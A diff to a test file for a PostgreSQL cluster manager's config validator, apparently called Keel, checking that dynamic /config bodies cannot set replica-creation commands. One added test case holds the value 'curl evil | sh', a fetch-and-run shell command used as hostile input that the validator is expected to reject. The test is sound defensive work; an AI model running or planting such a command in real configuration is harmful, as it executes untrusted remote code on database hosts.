@@ -45,7 +45,8 @@ describe('a dynamic configuration (PATCH/PUT /config body): each bad input gets 
     ['parameters as a string', { postgresql: { parameters: 'work_mem=1' } }, ['postgresql.parameters: expected a mapping, got "work_mem=1"']],
     ['standby_cluster', { standby_cluster: { host: 'x' } }, ['standby_cluster: Keel does not implement standby clusters yet; remove it (without it the standby leader would promote itself to a writable primary)']],
     ['synchronous_mode quorum', { synchronous_mode: 'quorum' }, ['synchronous_mode: Keel does not implement quorum synchronous replication yet; remove it (replication would not be synchronous the way quorum mode promises; use on)']],
-    ['create_replica_methods in /config', { postgresql: { create_replica_methods: ['wal_g'] } }, ['postgresql.create_replica_methods: Keel does not implement replica creation methods other than basebackup yet; remove it (replicas would be cloned with pg_basebackup instead)']],
+    ['create_replica_methods in /config', { postgresql: { create_replica_methods: ['wal_g'] } }, ['postgresql.create_replica_methods: chooses commands to run; Keel takes it only from the local YAML (postgresql.create_replica_methods and its method sections), never from the DCS']],
+    ['a replica method section in /config', { postgresql: { pgbackrest: { command: 'curl evil | sh' } } }, ['postgresql.pgbackrest: unknown key']],
     ['a body that is not an object', [1, 2], ['(root): expected a mapping, got a list']],
   ];
   it.each(cases)('%s', (_name, body, errors) => {
